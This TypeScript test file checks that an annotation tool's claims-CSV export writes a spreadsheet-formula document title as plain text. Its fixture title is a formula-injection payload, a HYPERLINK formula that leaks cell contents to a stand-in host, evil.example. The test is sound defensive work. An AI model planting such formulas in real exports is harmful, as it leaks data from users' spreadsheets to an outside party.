/**
 * Issue 16.8: a document title (or any quoted text) that is a spreadsheet
 * formula is exported as text: no cell of the claims CSV begins with = + - @.
 */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, expect, it } from 'vitest'
import { exportWithCli } from '../../../tests/support/export-cli.ts'
import { cleanup, makeCorpus, openBackend, spanAt } from '../../../tests/support/backend.ts'

afterEach(cleanup)

const TEXT = 'Shelling killed 3 civilians in Idlib.'
const TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Read more")'

it('spanbench export --format claims-csv writes a formula title as text', async () => {
  const { dir, docIds } = await makeCorpus({ 'a.txt': TEXT })
  const docId = docIds[0] ?? ''
  const path = join(dir, 'documents', `${docId}.json`)
  const doc = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>
  await writeFile(path, JSON.stringify({ ...doc, title: TITLE }, null, 2))
  const backend = await openBackend(dir, 'alice')
  const applied = await backend.invoke('annotations.apply', {
    docId,
    revision: 0,
    ops: [{ op: 'addSpan', span: spanAt(TEXT, 16, 17, 'CASUALTY_FIGURE', 'f1') }],
  })
  expect(applied.ok).toBe(true)
  backend.ctx.corpus.close()
  const { result, out } = await exportWithCli(dir, 'claims-csv', 'claims.csv')
  expect(result.code).toBe(0)
  const rows = parse<Record<string, string>>(await readFile(out, 'utf8'), { columns: true })
  expect(rows).toHaveLength(1)
  expect(rows[0]?.document).toBe(`'${TITLE}`)
  for (const row of rows)
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
})
